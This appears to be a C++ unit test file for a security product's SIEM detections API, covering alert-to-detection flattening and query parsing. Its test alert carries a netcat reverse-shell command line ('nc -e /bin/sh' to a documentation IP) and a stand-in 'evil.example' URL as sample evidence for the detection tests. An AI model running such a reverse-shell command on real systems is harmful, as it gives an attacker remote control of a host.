// The SIEM API's pure parts: query parameters, selection, and the flattening of alerts into MDE's
// flat detections, checked against the golden field list (tests/e2e/golden/mde_shapes.json,
// "SiemDetection", mde-api.md §8) shared with the end-to-end tests.
#include "api/siem_detections.h"

#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>

#include "common/time.h"

namespace ward::api {
namespace {

using Params = std::vector<std::pair<std::string, std::string>>;

constexpr int64_t kNow = 1'700'000'000'000LL * kTicksPerMillisecond;

std::vector<std::pair<std::string, std::string>> GoldenFields() {
  std::ifstream f(std::string(WARD_SOURCE_DIR) + "/tests/e2e/golden/mde_shapes.json");
  std::stringstream text;
  text << f.rdbuf();
  auto v = json::Value::Parse(text.str());
  EXPECT_TRUE(v) << "golden file unreadable";
  std::vector<std::pair<std::string, std::string>> out;
  const json::Value* spec = v ? v->Find("SiemDetection") : nullptr;
  EXPECT_NE(spec, nullptr);
  if (spec) {
    for (const auto& [k, kind] : spec->members()) out.emplace_back(k, kind.as_string());
  }
  return out;
}

state::Machine TestMachine() {
  state::Machine m;
  m.id = "1e5a3a14d0b8c2f7a9e6b4d3c2a1f0e9d8c7b6a5";
  m.computer_dns_name = "web01.corp.example";
  m.domain = "corp.example";
  m.ip_addresses = {"10.1.2.3", "fe80::1", "192.168.7.9"};
  m.logged_on_users = {"corp\\liz", "corp\\jay"};
  m.tags = {"prod", "web"};
  m.api_tags = {"pci"};
  return m;
}

state::Alert TestAlert() {
  state::Alert a;
  a.id = "da638000000000000000_1234567890";
  a.title = "Netcat Binding A Program To A Connection";
  a.category = "Execution";
  a.severity = "High";
  a.description = "nc ran with -e";
  a.detection_source = "WardEdr";
  a.detector_id = "6f1c0b7e-0000-4000-8000-000000000001";
  a.machine_id = "1e5a3a14d0b8c2f7a9e6b4d3c2a1f0e9d8c7b6a5";
  a.computer_dns_name = "web01.corp.example";
  a.alert_creation_ms = 1'700'000'000'000LL;
  a.first_event_ms = 1'699'999'999'500LL;
  a.last_update_ms = 1'700'000'000'123LL;
  a.event_keys = {"1e5a3a14d0b8c2f7a9e6b4d3c2a1f0e9d8c7b6a5:DeviceProcessEvents:42"};
  state::AlertEvidence p;
  p.entity_type = "Process";
  p.file_name = "nc";
  p.file_path = "/usr/bin";
  p.sha1 = "aabbccddee1122334455aabbccddee1122334455";
  p.sha256 = std::string(64, 'e');
  p.process_id = 12;
  p.process_command_line = "nc -e /bin/sh 203.0.113.9 4444";
  p.account_name = "www-data";
  p.domain_name = "web01";
  p.evidence_creation_ms = a.alert_creation_ms;
  state::AlertEvidence ip;
  ip.entity_type = "Ip";
  ip.ip_address = "203.0.113.9";
  ip.evidence_creation_ms = a.alert_creation_ms;
  a.evidence = {p, ip};
  return a;
}

SiemAlertContext Context(const state::Machine& m) {
  SiemAlertContext c;
  c.machine = &m;
  c.machine_group = "Web servers";
  c.portal_url = "https://ward.example";
  return c;
}

TEST(SiemDetections, EveryDocumentedFieldInOrderWithItsType) {
  state::Machine m = TestMachine();
  std::vector<json::Value> parts = SiemDetections(TestAlert(), Context(m));
  ASSERT_EQ(parts.size(), 2u);
  const auto golden = GoldenFields();
  ASSERT_EQ(golden.size(), 50u);  // §8 lists 50 fields
  for (const json::Value& d : parts) {
    ASSERT_EQ(d.members().size(), golden.size());
    for (size_t i = 0; i < golden.size(); ++i) {
      const auto& [name, kind] = golden[i];
      const json::Member& got = d.members()[i];
      EXPECT_EQ(got.key, name) << "field " << i;
      if (kind == "integer") EXPECT_TRUE(got.value.is_int()) << name;
      else if (kind == "boolean?") EXPECT_TRUE(got.value.is_null() || got.value.is_bool()) << name;
      else EXPECT_TRUE(got.value.is_string()) << name << " must be a string (\"\" when empty)";
    }
  }
}

TEST(SiemDetections, FieldsComeFromTheAlertItsEvidenceAndItsMachine) {
  state::Machine m = TestMachine();
  state::Alert a = TestAlert();
  std::vector<json::Value> parts = SiemDetections(a, Context(m));
  const json::Value& process = parts[0];
  const json::Value& ip = parts[1];
  auto s = [](const json::Value& d, const char* k) { return d.GetString(k).value_or("<not a string>"); };
  EXPECT_EQ(s(process, "AlertId"), a.id);
  EXPECT_EQ(s(process, "AlertTitle"), a.title);
  EXPECT_EQ(s(process, "AlertTime"), "2023-11-14T22:13:19.5000000Z");
  EXPECT_EQ(s(process, "LastProcessedTimeUtc"), "2023-11-14T22:13:20.1230000Z");
  EXPECT_EQ(s(process, "ComputerDnsName"), "web01.corp.example");
  EXPECT_EQ(s(process, "MachineName"), "web01");
  EXPECT_EQ(s(process, "MachineDomain"), "corp.example");
  EXPECT_EQ(s(process, "DeviceID"), m.id);
  EXPECT_EQ(s(process, "MachineGroup"), "Web servers");
  EXPECT_EQ(s(process, "InternalIPv4List"), "10.1.2.3; 192.168.7.9");
  EXPECT_EQ(s(process, "InternalIPv6List"), "fe80::1");
  EXPECT_EQ(s(process, "LogOnUsers"), "corp\\liz; corp\\jay");
  EXPECT_EQ(s(process, "DeviceCreatedMachineTags"), "prod; web");
  EXPECT_EQ(s(process, "CloudCreatedMachineTags"), "pci");
  EXPECT_EQ(s(process, "Source"), "EDR");
  EXPECT_EQ(s(process, "IoaDefinitionId"), a.detector_id);
  EXPECT_EQ(s(process, "Sha1"), a.evidence[0].sha1);
  EXPECT_EQ(s(process, "FileHash"), a.evidence[0].sha1);
  EXPECT_EQ(s(process, "Sha256"), a.evidence[0].sha256);
  EXPECT_EQ(s(process, "FileName"), "nc");
  EXPECT_EQ(s(process, "FilePath"), "/usr/bin");
  EXPECT_EQ(s(process, "CommandLine"), "nc -e /bin/sh 203.0.113.9 4444");
  EXPECT_EQ(s(process, "UserName"), "www-data");
  EXPECT_EQ(s(process, "UserDomain"), "web01");
  EXPECT_EQ(s(process, "IocName"), "FileSha1");
  EXPECT_EQ(s(process, "IocValue"), a.evidence[0].sha1);
  EXPECT_EQ(s(process, "Md5"), "");
  EXPECT_EQ(s(process, "Actor"), "");
  EXPECT_EQ(s(process, "LinkToWDATP"), "https://ward.example/alert/" + a.id);
  EXPECT_EQ(s(process, "LinkToMTP"), "https://ward.example/alert/" + a.id);
  EXPECT_EQ(s(process, "IncidentLinkToWDATP"), "https://ward.example/incidents/byalert?alertId=" + a.id + "&source=SIEM");
  EXPECT_EQ(process.GetInt("ReportID"), 42);
  EXPECT_TRUE(process.Find("RemediationIsSuccess")->is_null());
  EXPECT_TRUE(process.Find("WasExecutingWhileDetected")->is_null());

  EXPECT_EQ(s(ip, "IocName"), "IpAddress");
  EXPECT_EQ(s(ip, "IocValue"), "203.0.113.9");
  EXPECT_EQ(s(ip, "IpAddress"), "203.0.113.9");
  EXPECT_EQ(s(ip, "Sha1"), "");
  EXPECT_EQ(s(ip, "CommandLine"), "");
  EXPECT_EQ(process.GetInt("AlertPart"), 0);
  EXPECT_EQ(ip.GetInt("AlertPart"), 1);
}

TEST(SiemDetections, IocUniqueIdIsStablePerEvidenceAndDistinctAcrossParts) {
  state::Machine m = TestMachine();
  state::Alert a = TestAlert();
  auto first = SiemDetections(a, Context(m));
  // Evidence appended by a later event leaves the earlier parts' ids as they were.
  state::AlertEvidence url;
  url.entity_type = "Url";
  url.url = "https://evil.example/x";
  a.evidence.push_back(url);
  a.evidence.push_back(a.evidence[1]);  // the same IP again
  a.last_update_ms += 5000;
  auto later = SiemDetections(a, Context(m));
  ASSERT_EQ(later.size(), 4u);
  std::set<std::string> ids;
  for (size_t i = 0; i < later.size(); ++i) {
    std::string id = *later[i].GetString("IocUniqueId");
    EXPECT_EQ(*later[i].GetString("FullId"), a.id + ":" + id);
    ids.insert(id);
  }
  EXPECT_EQ(ids.size(), 4u) << "an evidence item repeated is still its own part";
  EXPECT_EQ(*later[0].GetString("IocUniqueId"), *first[0].GetString("IocUniqueId"));
  EXPECT_EQ(*later[1].GetString("IocUniqueId"), *first[1].GetString("IocUniqueId"));
  EXPECT_EQ(*later[2].GetString("IocName"), "Url");
  // Another alert with the same evidence has other ids.
  state::Alert other = TestAlert();
  other.id = "da638000000000000001_1";
  EXPECT_NE(*SiemDetections(other, Context(m))[0].GetString("IocUniqueId"), *first[0].GetString("IocUniqueId"));
}

TEST(SiemDetections, AnAlertWithoutEvidenceOrMachineIsOnePartOfEmptyStrings) {
  state::Alert a = TestAlert();
  a.evidence.clear();
  a.event_keys.clear();
  a.detection_source = "CustomDetection";
  a.related_user_name = "liz";
  a.related_user_domain = "corp";
  SiemAlertContext ctx;
  ctx.portal_url = "https://ward.example";
  auto parts = SiemDetections(a, ctx);
  ASSERT_EQ(parts.size(), 1u);
  const json::Value& d = parts[0];
  EXPECT_EQ(d.GetInt("AlertPart"), 0);
  EXPECT_EQ(d.GetInt("ReportID"), 0);
  EXPECT_EQ(*d.GetString("Source"), "CustomDetection");
  EXPECT_EQ(*d.GetString("ComputerDnsName"), "web01.corp.example");  // the alert's own copy
  EXPECT_EQ(*d.GetString("UserName"), "liz");
  EXPECT_EQ(*d.GetString("UserDomain"), "corp");
  for (const char* k : {"Sha1", "FileName", "IocName", "IocValue", "MachineDomain", "InternalIPv4List", "MachineGroup",
                        "DeviceCreatedMachineTags", "LogOnUsers", "ExternalId"}) {
    EXPECT_EQ(*d.GetString(k), "") << k;
  }
  EXPECT_FALSE(d.GetString("IocUniqueId")->empty());
}

TEST(SiemDetections, SourcesInMdeVocabulary) {
  EXPECT_EQ(SiemSource("WardEdr"), "EDR");
  EXPECT_EQ(SiemSource("CustomTi"), "CustomerTI");
  EXPECT_EQ(SiemSource("CustomDetection"), "CustomDetection");
  EXPECT_EQ(SiemSource("SomethingNew"), "SomethingNew");
}

TEST(SiemDetections, CustomTiAlertsNameTheirCreatorIndicator) {
  state::Machine m = TestMachine();
  state::Alert a = TestAlert();
  a.detection_source = "CustomTi";
  a.detector_id = "indicator:17";
  SiemAlertContext ctx = Context(m);
  ctx.creator_ioc_name = "IpAddress";
  ctx.creator_ioc_value = "203.0.113.9";
  auto d = SiemDetections(a, ctx)[0];
  EXPECT_EQ(*d.GetString("CreatorIocName"), "IpAddress");
  EXPECT_EQ(*d.GetString("CreatorIocValue"), "203.0.113.9");
  EXPECT_EQ(*d.GetString("IoaDefinitionId"), "");
  EXPECT_EQ(*d.GetString("Source"), "CustomerTI");
}

// ---- query parameters ----------------------------------------------------------------------------

TEST(SiemQuery, NoParametersMeansTheLastTwoHours) {
  auto q = ParseSiemQuery({}, kNow);
  ASSERT_TRUE(q) << q.error().message();
  EXPECT_EQ(q->until_ticks, kNow);
  EXPECT_EQ(q->since_ticks, kNow - 2LL * 3600 * kTicksPerSecond);
  EXPECT_FALSE(q->limit);
}

TEST(SiemQuery, TimesDurationsAndLimitWithNamesInAnyCase) {
  auto q = ParseSiemQuery({{"SINCETIMEUTC", "2016-09-12T00:00:00.000"}, {"untiltimeutc", "2016-09-13T00:00:00Z"},
                           {"Limit", "20"}},
                          kNow);
  ASSERT_TRUE(q) << q.error().message();
  EXPECT_EQ(q->since_ticks, *ParseIsoTicks("2016-09-12T00:00:00Z"));
  EXPECT_EQ(q->until_ticks, *ParseIsoTicks("2016-09-13T00:00:00Z"));
  EXPECT_EQ(q->limit, 20);
  auto ago = ParseSiemQuery({{"ago", "PT10M"}}, kNow);
  ASSERT_TRUE(ago);
  EXPECT_EQ(ago->since_ticks, kNow - 600 * kTicksPerSecond);
  EXPECT_EQ(ago->until_ticks, kNow);
  auto day = ParseSiemQuery({{"AGO", "P1D"}}, kNow);
  ASSERT_TRUE(day);
  EXPECT_EQ(day->since_ticks, kNow - 86400 * kTicksPerSecond);
  // An unencoded '+' in an offset arrives as a space.
  auto offset = ParseSiemQuery({{"sinceTimeUtc", "2016-09-12T02:00:00 02:00"}}, kNow);
  ASSERT_TRUE(offset) << offset.error().message();
  EXPECT_EQ(offset->since_ticks, *ParseIsoTicks("2016-09-12T00:00:00Z"));
}

TEST(SiemQuery, AStartAfterNowIsAnEmptyWindowNotAnError) {
  auto q = ParseSiemQuery({{"sinceTimeUtc", FormatIsoTicks(kNow + 60 * kTicksPerSecond)}}, kNow);
  ASSERT_TRUE(q) << q.error().message();
  state::Machine m = TestMachine();
  state::Alert a = TestAlert();
  a.last_update_ms = kNow / kTicksPerMillisecond;
  EXPECT_FALSE(SiemSelects(*q, a, m, ""));
}

TEST(SiemQuery, FiltersRepeat) {
  auto q = ParseSiemQuery({{"machinegroups", "UKMachines"}, {"MachineGroups", "FranceMachines"},
                           {"DeviceCreatedMachineTags", "prod"}, {"cloudcreatedmachinetags", "pci"}, {"other", "x"}},
                          kNow);
  ASSERT_TRUE(q);
  EXPECT_EQ(q->machine_groups, (std::vector<std::string>{"UKMachines", "FranceMachines"}));
  EXPECT_EQ(q->device_tags, std::vector<std::string>{"prod"});
  EXPECT_EQ(q->cloud_tags, std::vector<std::string>{"pci"});
}

TEST(SiemQuery, BadValuesNameTheParameter) {
  const std::vector<std::pair<Params, std::string>> cases = {
      {{{"sinceTimeUtc", "yesterday"}}, "sinceTimeUtc"},
      {{{"untilTimeUtc", "2016-13-01T00:00:00Z"}}, "untilTimeUtc"},
      {{{"ago", "10 minutes"}}, "ago"},
      {{{"ago", "P1M"}}, "ago"},  // months have no fixed length
      {{{"limit", "0"}}, "limit"},
      {{{"limit", "-5"}}, "limit"},
      {{{"limit", "ten"}}, "limit"},
      {{{"limit", "99999999999"}}, "limit"},
      {{{"machinegroups", ""}}, "machinegroups"},
      {{{"limit", "5"}, {"LIMIT", "6"}}, "LIMIT"},
      {{{"ago", "PT1H"}, {"sinceTimeUtc", "2016-09-12T00:00:00Z"}}, "sinceTimeUtc"},
      {{{"sinceTimeUtc", "2016-09-13T00:00:00Z"}, {"untilTimeUtc", "2016-09-12T00:00:00Z"}}, "untilTimeUtc"},
  };
  for (const auto& [params, name] : cases) {
    auto q = ParseSiemQuery(params, kNow);
    ASSERT_FALSE(q) << name;
    EXPECT_EQ(q.error().code(), StatusCode::kInvalidArgument);
    EXPECT_NE(q.error().message().find(name), std::string::npos) << q.error().message();
  }
}

TEST(SiemQuery, SelectsByLastUpdateGroupAndTags) {
  state::Machine m = TestMachine();
  state::Alert a = TestAlert();
  const int64_t processed = a.last_update_ms * kTicksPerMillisecond;
  SiemQuery q;
  q.since_ticks = processed;
  q.until_ticks = processed;
  EXPECT_TRUE(SiemSelects(q, a, m, "Web servers")) << "both ends are inclusive";
  q.since_ticks = processed + 1;
  q.until_ticks = processed + 10;
  EXPECT_FALSE(SiemSelects(q, a, m, "Web servers"));
  q.since_ticks = processed - 10;
  q.until_ticks = processed - 1;
  EXPECT_FALSE(SiemSelects(q, a, m, "Web servers"));
  q.until_ticks = processed + 10;
  q.machine_groups = {"Other", "web SERVERS"};
  EXPECT_TRUE(SiemSelects(q, a, m, "Web servers"));
  EXPECT_FALSE(SiemSelects(q, a, m, "Databases"));
  EXPECT_FALSE(SiemSelects(q, a, m, "")) << "ungrouped devices are in no named group";
  q.machine_groups.clear();
  q.device_tags = {"PROD"};
  EXPECT_TRUE(SiemSelects(q, a, m, ""));
  q.device_tags = {"pci"};  // a cloud tag is not a device tag
  EXPECT_FALSE(SiemSelects(q, a, m, ""));
  q.device_tags.clear();
  q.cloud_tags = {"pci"};
  EXPECT_TRUE(SiemSelects(q, a, m, ""));
  q.cloud_tags = {"prod"};
  EXPECT_FALSE(SiemSelects(q, a, m, ""));
}

}  // namespace
}  // namespace ward::api
